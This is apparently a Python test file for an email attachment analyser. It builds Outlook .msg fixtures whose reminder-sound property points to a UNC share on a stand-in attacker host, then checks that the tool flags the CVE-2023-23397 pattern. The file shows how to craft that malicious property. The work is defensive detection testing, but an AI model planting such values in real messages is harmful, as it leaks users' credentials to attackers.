"""Attachment attacks are found, with evidence: the .msg reminder sound, DDE, remote templates, macros,
OLE objects, encrypted files, share paths. Every test file is built here from bytes (zipfile for
Office Open XML, plain bytes for RTF and PDF, extract-msg's OLE writer for .msg and OLE2); no corpus
file is used as a fixture."""

from __future__ import annotations

import io
import struct
from email.message import EmailMessage
from pathlib import Path

import olefile
from extract_msg.ole_writer import OleWriter

from inspector.analysis import analyse
from inspector.model import Category, Finding, Severity
from inspector.parsing import load_bytes

MSG_FIXTURES = Path(__file__).resolve().parent / "fixtures" / "msg"
UNC_SOUND = b"\\\\attacker.example\\share\\ding.wav"


def _codes(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.code, []).append(f)
    return out


def _msg_with_reminder_sound(value: bytes) -> bytes:
    """quick.msg (Apache POI) with PidLidReminderFileParameter added as Outlook writes it: a numeric
    named property 0x851F of PSETID_Common (already the file's GUID number 3), value in a string stream."""
    source = (MSG_FIXTURES / "quick.msg").read_bytes()
    writer = OleWriter()
    writer.fromOleFile(olefile.OleFileIO(source))
    entry_path = ["__nameid_version1.0", "__substg1.0_00030102"]
    entries = olefile.OleFileIO(source).openstream(entry_path).read()
    index = len(entries) // 8
    writer.editEntry(entry_path, data=entries + struct.pack("<IHH", 0x851F, 3 << 1, index))
    # This file stores 8-bit strings (001E); a 001F stream would switch extract-msg to UTF-16 for all.
    writer.addEntry(f"__substg1.0_{0x8000 + index:04X}001E", data=value + b"\x00")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_msg_reminder_sound_share_is_read_from_the_file() -> None:
    message = load_bytes(_msg_with_reminder_sound(UNC_SOUND))
    assert message.format == "msg"
    assert message.extra["reminder_file_parameter"] == UNC_SOUND.decode()
    unc = _codes(analyse(message).findings)["UNC_PATH"]
    [finding] = [f for f in unc if f.vector == "msg:PidLidReminderFileParameter"]
    assert finding.severity == Severity.HIGH
    assert finding.host == "attacker.example"
    assert finding.evidence["value"] == UNC_SOUND.decode()
    assert "CVE-2023-23397" in finding.explanation


def test_msg_reminder_sound_local_file_is_not_reported() -> None:
    message = load_bytes(_msg_with_reminder_sound(b"C:\\Windows\\Media\\ding.wav"))
    assert message.extra["reminder_file_parameter"] == "C:\\Windows\\Media\\ding.wav"
    assert not [f for f in analyse(message).findings if f.vector == "msg:PidLidReminderFileParameter"]


def test_msg_without_reminder_sound_has_none() -> None:
    message = load_bytes((MSG_FIXTURES / "quick.msg").read_bytes())
    assert "reminder_file_parameter" not in message.extra
    assert not [d for d in message.defects if d.kind == "NamedPropertyUnreadable"]


def _mail(attachment: bytes, filename: str, maintype: str = "application", subtype: str = "octet-stream",
          body: str = "see attachment") -> bytes:  # fmt: skip
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "attachment"
    msg.set_content(body)
    msg.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def _attachment_findings(raw: bytes) -> dict[str, list[Finding]]:
    return _codes([f for f in analyse(load_bytes(raw)).findings if f.category != Category.SENDER])
